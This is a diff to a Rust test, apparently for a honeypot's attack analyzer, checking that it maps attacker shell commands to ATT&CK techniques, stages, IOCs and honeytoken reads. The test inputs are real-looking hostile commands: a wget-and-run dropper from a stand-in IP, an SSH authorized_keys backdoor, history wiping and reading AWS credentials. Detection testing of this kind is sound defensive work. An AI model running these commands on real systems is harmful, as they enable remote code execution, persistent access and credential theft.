@@ -55,7 +55,10 @@ fn the_dropper_session_gives_techniques_stages_iocs_tokens_and_risk() {
     assert_eq!(techniques(&out), ["T1078.001"]);
     assert!(matches!(&out[1], EventKind::AttackStage(s) if s.stage == "initial_access"));
 
-    let out = cmd(&mut a, "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh; ./bins.sh");
+    let out = cmd(
+        &mut a,
+        "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh; ./bins.sh",
+    );
     let t = techniques(&out);
     for want in ["T1059.004", "T1105", "T1222.002"] {
         assert!(t.contains(&want.to_string()), "{want} in {t:?}");
@@ -82,31 +85,44 @@ fn the_dropper_session_gives_techniques_stages_iocs_tokens_and_risk() {
     }));
     // T1105 and the URL were already reported; only the file name is new.
     assert_eq!(out.len(), 1, "{out:?}");
-    assert!(matches!(&out[0], EventKind::Ioc(i) if i.ioc == IocKind::Filename && i.value == "bins.sh"));
+    assert!(
+        matches!(&out[0], EventKind::Ioc(i) if i.ioc == IocKind::Filename && i.value == "bins.sh")
+    );
 
-    let out = cmd(&mut a, "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh");
+    let out = cmd(
+        &mut a,
+        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
+    );
     assert!(techniques(&out).contains(&"T1098.004".to_string()));
-    assert!(out.iter().any(|k| matches!(k, EventKind::AttackStage(s) if s.stage == "persistence")));
+    assert!(
+        out.iter()
+            .any(|k| matches!(k, EventKind::AttackStage(s) if s.stage == "persistence"))
+    );
 
     let out = cmd(&mut a, "history -c; rm -f ~/.bash_history");
     assert!(techniques(&out).contains(&"T1070.003".to_string()));
 
     let aws = a.tokens()[0].clone();
-    cmd(&mut a, "cat .aws/credentials");
+    let read = cmd(&mut a, "cat .aws/credentials");
+    assert!(techniques(&read).contains(&"T1552.001".to_string()));
     let out = a.observe(&ev(EventKind::CommandResult {
         input: "cat .aws/credentials".into(),
         output: aws.content.clone(),
         exit_code: 0,
         output_truncated: false,
     }));
-    assert!(matches!(&out[0], EventKind::HoneytokenTouched(t) if t.action == TokenAction::Read && t.token == TokenKind::AwsKey));
-    assert!(techniques(&out).contains(&"T1552.001".to_string()));
+    assert!(
+        matches!(&out[0], EventKind::HoneytokenTouched(t) if t.action == TokenAction::Read && t.token == TokenKind::AwsKey)
+    );
+    assert_eq!(out.len(), 1, "the technique was reported with the command: {out:?}");
 
-    a.observe(&ev(EventKind::DelayApplied(miragepot_event::DelayApplied {
-        delay_ms: 1500,
-        score: 60,
-        band: 40,
-    })));
+    a.observe(&ev(EventKind::DelayApplied(
+        miragepot_event::DelayApplied {
+            delay_ms: 1500,
+            score: 60,
+            band: 40,
+        },
+    )));
     let s = a.summary(1234);
     assert_eq!(s.commands, 4);
     assert_eq!(s.downloads, 1);
